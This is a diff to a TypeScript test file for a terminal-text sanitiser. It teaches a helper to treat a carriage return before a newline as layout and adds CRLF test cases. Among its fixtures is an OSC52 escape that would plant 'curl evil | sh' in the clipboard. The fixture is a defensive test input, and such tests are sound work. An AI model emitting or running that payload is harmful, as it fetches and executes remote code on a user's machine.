@@ -8,10 +8,14 @@ const OSC52 = `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${
 const OSC0 = `${ESC}]0;owned${BEL}`;
 const CSI2J = `${ESC}[2J`;
 
-/** What a terminal acts on, as the adversarial harness defines it, plus the separators and bidi controls. */
+/**
+ * What a terminal acts on, as the adversarial harness defines it, plus the separators and bidi controls; a carriage
+ * return right before a newline (CRLF) is layout, as sanitizeTerminalText keeps it.
+ */
 function actsOn(text: string): boolean {
-  for (const char of text) {
+  for (const [i, char] of [...text].entries()) {
     const code = char.codePointAt(0) ?? 0;
+    if (code === 0x0d && [...text][i + 1] === "\n") continue;
     if (code < 0x20 && code !== 0x0a && code !== 0x09) return true;
     if (code >= 0x7f && code <= 0x9f) return true;
     if (code === 0x2028 || code === 0x2029 || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069))
@@ -65,6 +69,11 @@ describe("sanitizeTerminalText", () => {
   });
 
   it("is idempotent and leaves nothing a terminal acts on, whatever the input", () => {
+    // A CRLF stays as it is (a seed of fast-check found it: the check above now says why that is layout).
+    expect(sanitizeTerminalText("\r\n")).toBe("\r\n");
+    expect(actsOn("\r\n")).toBe(false);
+    expect(actsOn("\r")).toBe(true);
+    expect(actsOn("\rx\n")).toBe(true);
     fc.assert(
       fc.property(fc.string({ unit: "binary" }), (text) => {
         const once = sanitizeTerminalText(text);
